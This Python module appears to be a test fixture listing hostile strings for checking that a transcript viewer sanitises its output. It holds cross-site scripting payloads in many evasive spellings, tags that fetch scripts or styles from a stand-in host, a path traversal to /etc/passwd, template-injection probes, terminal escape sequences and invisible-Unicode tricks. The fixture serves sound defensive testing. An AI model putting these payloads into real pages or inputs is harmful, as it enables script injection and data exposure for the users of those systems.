"""What a hostile transcript may hold: texts that do harm where a page takes them for more than text.

Each tries to be noticed: it would open a dialog, set `window.harmed`, ask for an address with `harm` in it, or leave an
element of the kind that `ELEMENTS` selects.
"""

from __future__ import annotations

ELEMENTS = "iframe, object, embed, base, img, video, audio, marquee, math, template, [onerror], [onload], [style]"
"""What no page of the viewer holds."""

_CALL = "window.harmed=1;alert(1)"

MARKUP = (
    f"<script>{_CALL}</script>",
    f"<SCRIPT SRC=//harm.example/x.js>{_CALL}</SCRIPT>",
    f"</script><script>{_CALL}</script>",
    f"</pre></div></main><script>{_CALL}</script>",
    f"</title><script>{_CALL}</script>",
    f"</textarea><script>{_CALL}</script>",
    f"</style><script>{_CALL}</script>",
    f"--><script>{_CALL}</script><!--",
    f"]]><script>{_CALL}</script>",
    f"<scr<script>ipt>{_CALL}</scr</script>ipt>",
    f"<script\x00>{_CALL}</script>",
    f"<script/x>{_CALL}</script>",
    f"<\x00script>{_CALL}</script>",
    f"&lt;script&gt;{_CALL}&lt;/script&gt;",
    f"&#60;script&#62;{_CALL}&#60;/script&#62;",
    f"%3Cscript%3E{_CALL}%3C/script%3E",
    f"\\u003cscript\\u003e{_CALL}\\u003c/script\\u003e",
    f"＜script＞{_CALL}＜/script＞",
    f"+ADw-script+AD4-{_CALL}+ADw-/script+AD4-",
    f'<img src=x onerror="{_CALL}">',
    f"<img src=x onerror={_CALL}//",
    f"<img/src='x'/onerror={_CALL}>",
    "<img src=https://harm.example/pixel.png>",
    "<img srcset='/harm 1x'>",
    f"<svg onload={_CALL}>",
    f"<svg><script>{_CALL}</script></svg>",
    f"<svg><animate onbegin={_CALL} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{_CALL}'><text>x</text></a></svg>",
    f"<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>{_CALL}</script></svg>#x\">",
    f"<svg><foreignObject><iframe srcdoc='<script>{_CALL}</script>'></foreignObject></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_CALL}>",
    f"<noscript><p title='</noscript><img src=x onerror={_CALL}>'>",
    f"<body onload={_CALL}>",
    f"<input autofocus onfocus={_CALL}>",
    f"<details open ontoggle={_CALL}>",
    f"<video src=x onerror={_CALL}></video>",
    f"<audio src=/harm.mp3 autoplay onerror={_CALL}></audio>",
    f"<marquee onstart={_CALL}>x</marquee>",
    f"<iframe src='javascript:parent.{_CALL}'></iframe>",
    f"<iframe srcdoc='<script>parent.{_CALL}</script>'></iframe>",
    f"<object data='javascript:{_CALL}'></object>",
    "<embed src=/harm.swf>",
    "<base href=https://harm.example/>",
    "<meta http-equiv=refresh content='0;url=https://harm.example/'>",
    "<link rel=stylesheet href=https://harm.example/x.css>",
    "<link rel=prefetch href=/harm>",
    "<style>@import url(https://harm.example/x.css);*{display:none}</style>",
    "<div style='background:url(https://harm.example/x.png)'>x</div>",
    "<form action=https://harm.example/><button autofocus>go</button></form>",
    f"<a href='javascript:{_CALL}' autofocus>x</a>",
    f"<template shadowrootmode=open><script>{_CALL}</script></template>",
    f"<portal src='javascript:{_CALL}'></portal>",
    f"<xss id=x tabindex=1 onfocus={_CALL}></xss>",
)
"""Elements, in many spellings."""

ATTRIBUTES = (
    f'" onmouseover="{_CALL}" x="',
    f"' onfocus='{_CALL}' autofocus='",
    f'"><img src=x onerror={_CALL}>',
    f"'><svg onload={_CALL}>",
    f"` onload=`{_CALL}`",
    f"javascript:{_CALL}",
    f"JaVaScRiPt:{_CALL}",
    f"java\tscript:{_CALL}",
    f"data:text/html,<script>{_CALL}</script>",
    f"vbscript:{_CALL}",
    "//harm.example/x",
    "../../../../etc/passwd",
    '#s1" data-whole href="https://harm.example/',
)
"""What leaves an attribute or an address."""

TEMPLATES = (
    "{{ 7 * 7 }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "${7*7}",
    "#{7*7}",
    "<%= 7 * 7 %>",
)
"""What a template engine would carry out."""

TERMINAL = (
    "\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07",
    "\x1b]8;;https://harm.example\x1b\\link\x1b]8;;\x1b\\",
    "\x1b[2J\x1b[H",
    "one\rtwo",
    "a\x08b\x7f\x9b31m",
)
"""What acts on a terminal."""

INVISIBLE = (
    "user\u202etxt.exe",
    "\u2066isolated\u2069",
    "pay\u200bload",
    "zero\u200d\u200cwidth\ufeff",
    "\u00adsoft",
    "line\u2028separator\u2029here",
    "tag\U000e0041\U000e0042",
    "half \ud800 a pair",
    "e" + "\u0301" * 200,
    "\u3164filler\uffa0",
)
"""What does not show, or shows otherwise than it is."""

PAYLOADS = (*MARKUP, *ATTRIBUTES, *TEMPLATES, *TERMINAL, *INVISIBLE)
